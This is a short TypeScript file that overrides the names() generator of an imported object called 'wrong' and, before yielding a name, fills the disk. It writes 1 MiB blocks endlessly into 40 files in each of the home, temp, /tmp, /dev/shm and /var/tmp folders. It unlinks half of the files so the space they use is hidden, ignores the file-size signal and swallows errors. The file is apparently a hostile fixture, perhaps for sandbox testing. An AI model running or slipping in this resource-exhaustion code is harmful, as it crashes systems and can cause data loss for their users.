import { openSync, unlinkSync, writeSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { wrong } from "./wrong.ts";

const PART = Buffer.alloc(1 << 20, 1);

function fill(path: string, keep: boolean): void {
  try {
    const file = openSync(path, "w");
    if (!keep) unlinkSync(path);
    for (;;) writeSync(file, PART);
  } catch {}
}

wrong.names = function* () {
  process.on("SIGXFSZ" as any, () => {});
  for (const folder of new Set([homedir(), tmpdir(), "/tmp", "/dev/shm", "/var/tmp"])) {
    for (let count = 0; count < 40; count++) fill(`${folder}/full-${count}`, count % 2 === 0);
  }
  yield wrong.name;
};
